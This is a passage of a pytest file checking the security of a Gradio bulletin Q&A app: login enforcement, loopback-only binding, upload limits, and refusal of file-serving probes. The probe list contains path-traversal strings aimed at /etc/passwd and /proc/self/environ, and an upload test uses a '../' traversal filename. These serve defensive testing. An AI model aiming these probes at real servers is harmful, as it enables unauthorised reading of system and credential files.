               f"uninterrupted run {result.duration:.2f} s, writing from {result.writing_at:.2f} s): "
               f"{result.survived} crashes survived in {result.attempts} attempts; phases {dict(result.phases)}")
    show(request, summary)
    assert result.survived >= random_kills + targeted_kills >= 10, summary
    assert result.phases["writing the temp generation"] + result.phases[
        "new generation published, CURRENT not yet switched"] >= 1, summary
    assert result.phases["reading, parsing or embedding"] >= 3, summary


# ----- the running app: /ask, the upload handler, the files it serves, where it listens, login -----
@pytest.fixture(scope="module")
def servers(tmp_path_factory):
    """Two `python app.py` processes started together: an open one and one that requires a login."""
    root = tmp_path_factory.mktemp("apps")
    credentials = ("office", uuid.uuid4().hex)
    plain, guarded = start_app(root / "open", SEED), start_app(root / "login", SEED, auth=credentials)
    try:
        wait_up(plain)
        wait_up(guarded)
        yield SimpleNamespace(plain=plain, guarded=guarded)
    finally:
        stop(plain)
        stop(guarded)
    for server in (plain, guarded):
        assert "Traceback" not in server.log.read_text(errors="replace"), server.log.read_text(errors="replace")


def http_get(server: SimpleNamespace, raw_path: str, headers: dict | None = None) -> tuple[int, bytes]:
    """GET exactly this path (no client-side normalisation of '..' or %-escapes)."""
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
    try:
        connection.putrequest("GET", raw_path, skip_accept_encoding=True)
        for key, value in (headers or {}).items():
            connection.putheader(key, value)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def http_post(server: SimpleNamespace, path: str, body: bytes, content_type: str) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    try:
        connection.request("POST", path, body, {"Content-Type": content_type})
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def client_for(server: SimpleNamespace, auth=None):
    from gradio_client import Client

    return Client(server.url, auth=auth, verbose=False, analytics_enabled=False, download_files=False)


def test_hostile_questions_through_the_running_app(servers, seed_assistant, request):
    assistant, _, _ = seed_assistant
    client = client_for(servers.plain)
    for case, question in HOSTILE_QUESTIONS.items():
        result = client.predict(question, api_name="/ask")
        assert_graceful(case, result)
        assert result == assistant.ask(question).to_json(), case
    for case in ("html-script", "sql-drop", "control-chars"):  # as a follow-up's history, too
        result = client.predict("那新市民驿站呢？", [HOSTILE_QUESTIONS[case]], api_name="/ask")
        assert_graceful(case, result)
    show(request, f"hostile questions through the running app's /ask: {len(HOSTILE_QUESTIONS) + 3} answered "
                  f"or refused, no error")


FILE_PROBES = [
    "/gradio_api/file=/etc/passwd",
    "/file=/etc/passwd",
    "/gradio_api/file/etc/passwd",
    "/gradio_api/file=%2Fetc%2Fpasswd",
    "/gradio_api/file=%252Fetc%252Fpasswd",
    "/gradio_api/file=../../../../../../etc/passwd",
    "/gradio_api/file=..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/gradio_api/file=%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/gradio_api/file=..\\..\\..\\..\\..\\etc\\passwd",
    "/gradio_api/file=/proc/self/environ",
    "/gradio_api/file=/proc/self/cmdline",
    "/gradio_api/file=file:///etc/passwd",
    "/gradio_api/file={gradio_tmp}/../../../../etc/passwd",
    "/gradio_api/file={corpus_file}",
    "/gradio_api/file={corpus_file_quoted}",
    "/gradio_api/file=corpus/shangjie-xinxi-2026-08.md",
    "/gradio_api/file=./corpus/shangjie-xinxi-2026-08.md",
    "/gradio_api/file={index_file}",
    "/gradio_api/file=index/CURRENT",
    "/gradio_api/file={log}",
    "/gradio_api/file=http://127.0.0.1:{port}/config",
    "/static/../../../../etc/passwd",
    "/assets/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/gradio_api/static/..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/gradio_api/file={root}/",
]


def test_the_app_serves_no_file_it_was_not_given(servers, request):
    server = servers.plain
    corpus_file = server.corpus / SEED.name
    index_file = next((server.index).glob("gen-*/manifest.json"))
    secrets = {
        "passwd": Path("/etc/passwd").read_bytes()[:40],
        "corpus": "积极动员 735 人报考社会工作者职业资格考试".encode(),
        "manifest": b'"format_version"',
        "environ": b"BULLETIN_QA_MODEL=",
        "log": b"Opening ",
    }
    served = []
    for template in FILE_PROBES:
        path = template.format(corpus_file=corpus_file, corpus_file_quoted=urllib.parse.quote(str(corpus_file)),
                               index_file=index_file, log=server.log, port=server.port, root=server.root,
                               gradio_tmp=server.root / "gradio-tmp")
        status, body = http_get(server, path)
        leaked = [name for name, secret in secrets.items() if secret in body]
        assert status != 200 or not leaked, (path, status, leaked)
        assert status in (400, 401, 403, 404, 405), (path, status, body[:200])
        served.append(status)
    show(request, f"file-serving probes: {len(FILE_PROBES)} paths, statuses {dict(Counter(served))}, none served")


def listening_addresses(port: int) -> list[str]:
    """Local addresses of the TCP sockets listening on port (from /proc/net/tcp and tcp6)."""
    found = []
    for table, width in (("/proc/net/tcp", 8), ("/proc/net/tcp6", 32)):
        with open(table, encoding="ascii") as handle:
            next(handle)
            for line in handle:
                fields = line.split()
                address, hex_port = fields[1].split(":")
                if fields[3] == "0A" and int(hex_port, 16) == port:  # 0A = LISTEN
                    raw = bytes.fromhex(address)
                    if width == 8:
                        found.append(socket.inet_ntop(socket.AF_INET, raw[::-1]))
                    else:
                        words = b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))
                        found.append(socket.inet_ntop(socket.AF_INET6, words))
    return found


def test_the_app_listens_on_loopback_only_by_default(servers, request):
    addresses = listening_addresses(servers.plain.port)
    assert addresses == ["127.0.0.1"], addresses
    described = addresses
    if shutil.which("ss"):
        shown = subprocess.run(["ss", "-ltnH", f"sport = :{servers.plain.port}"], capture_output=True, text=True,
                               timeout=10, check=False).stdout.split()
        described = [word for word in shown if word.endswith(f":{servers.plain.port}")]
        assert described == [f"127.0.0.1:{servers.plain.port}"], shown
    show(request, f"python app.py listens on {described} only")


def test_login_is_required_when_credentials_are_set(servers, seed_assistant):
    from gradio_client import Client

    server = servers.guarded
    question = "全区社会工作者持证人数是多少？"
    for path in ("/config", "/gradio_api/info", f"/gradio_api/file={server.corpus / SEED.name}"):
        status, body = http_get(server, path)
        assert status in (401, 403), (path, status)
        assert b"434" not in body
    status, _ = http_post(server, "/gradio_api/call/ask", json.dumps({"data": [question]}).encode(),
                          "application/json")
    assert status in (401, 403)
    with pytest.raises(Exception):  # noqa: B017 - gradio_client raises ValueError or httpx errors by version
        Client(server.url, verbose=False, analytics_enabled=False)
    with pytest.raises(Exception):  # noqa: B017
        Client(server.url, auth=(server.auth[0], "wrong-password"), verbose=False, analytics_enabled=False)
    answer = client_for(server, auth=server.auth).predict(question, api_name="/ask")
    assert answer == seed_assistant[0].ask(question).to_json() and "434" in answer["answer"]


# Uploads through the running app: the chat's 添加公报 button is a private event; a script can still send what the
# browser sends (upload to /gradio_api/upload, then join the queue for that event), so its limits must hold there.
def multipart(files: list[tuple[str, bytes]]) -> tuple[bytes, str]:
    boundary = uuid.uuid4().hex
    body = b""
    for name, data in files:
        body += (f"--{boundary}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"{name}\"\r\n"
                 f"Content-Type: application/octet-stream\r\n\r\n").encode() + data + b"\r\n"
    return body + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def browser_upload(server: SimpleNamespace, files: list[tuple[str, bytes]]) -> tuple[int, object]:
    body, content_type = multipart(files)
    status, reply = http_post(server, "/gradio_api/upload", body, content_type)
    return status, json.loads(reply) if status == 200 else reply


def press_add(server: SimpleNamespace, uploaded: list[str], names: list[str]) -> str:
    """Join the queue for the 添加到索引 button's event as the page does; returns the upload message (HTML)."""
    status, config = http_get(server, "/config")
    assert status == 200
    event = next(d for d in json.loads(config)["dependencies"] if d.get("api_name") == "add_bulletins")
    session = uuid.uuid4().hex
    files = [{"path": path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}
             for path, name in zip(uploaded, names)]
    payload = {"data": [files], "fn_index": event["id"], "trigger_id": event["targets"][0][0],
               "session_hash": session, "event_data": None}
    status, _ = http_post(server, "/gradio_api/queue/join", json.dumps(payload).encode(), "application/json")
    assert status == 200
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    try:
        connection.request("GET", f"/gradio_api/queue/data?session_hash={session}")
        for raw in connection.getresponse():
            line = raw.decode("utf-8").strip()
            if not line.startswith("data:"):
                continue
            message = json.loads(line[5:])
            if message.get("msg") == "process_completed":
                assert message.get("success"), message
                return message["output"]["data"][0]
    finally:
        connection.close()
    raise AssertionError("the upload event never completed")


def test_upload_limits_hold_through_the_running_app(servers, reports, request):
    server = servers.plain
    index_before, corpus_before = snapshot(server.index), tree(server.corpus)
    outside_before = tree(server.root, skip=(server.index, server.corpus, server.root / "gradio-tmp"))
    report_2024 = reports["2024"].read_bytes()

    # More than 20 files in one go: refused whole by the handler, before the library sees them.
    status, paths = browser_upload(server, [(f"report-{i}.md", report_2024 + str(i).encode()) for i in range(21)])
    assert status == 200 and len(paths) == 21
    message = press_add(server, paths, [f"report-{i}.md" for i in range(21)])
    assert message.count("一次最多添加 20 个文件（这次选了 21 个）") == 21 and "索引保持不变" in message
    assert not any(Path(p).exists() for p in paths)  # gradio's temporary copies are gone once handled

    # Over 20 MB: gradio refuses the upload itself (its max_file_size is the library's limit).
    status, reply = browser_upload(server, [("big.md", b"\xe5\x85\xac" * (MAX_FILE_BYTES // 3 + 1))])
    assert status == 413, (status, reply)

    # Unsupported types and a traversal name: refused / sanitised by the library.
    status, paths = browser_upload(server, [("tool.exe", b"MZ\x90\x00"), ("run.sh", b"#!/bin/sh\n"),
                                            ("../../../../outside.md", report_2024)])
    assert status == 200
    assert all(Path(p).is_relative_to(server.root / "gradio-tmp") for p in paths), paths
    message = press_add(server, paths, ["tool.exe", "run.sh", "../../../../outside.md"])
    assert "未添加「tool&#46;exe」：不支持的文件类型“.exe”" in message
    assert "未添加「run&#46;sh」：不支持的文件类型“.sh”" in message
    assert "已添加「outside&#46;md」" in message and "政府工作报告" in message, message
    assert not any(Path(p).exists() for p in paths)  # accepted or refused, no copy stays in gradio's folder

    assert snapshot(server.index) != index_before  # the good file was indexed …
    added = set(tree(server.corpus)) - set(corpus_before)
    assert added == {"outside.md"}, added  # … and stored in the corpus folder only, under a clean name
    assert tree(server.root, skip=(server.index, server.corpus, server.root / "gradio-tmp")) == outside_before
    assert not any(p.name == "outside.md" for p in server.root.parent.iterdir())
    client = client_for(server)
    assert "1244" in client.predict("2023年城镇新增就业多少人？", api_name="/ask")["answer"]
    show(request, "uploads through the running app: 21 files refused, 20 MB+ refused with HTTP 413, "
                  ".exe/.sh refused, '../../../../outside.md' stored as corpus/outside.md")
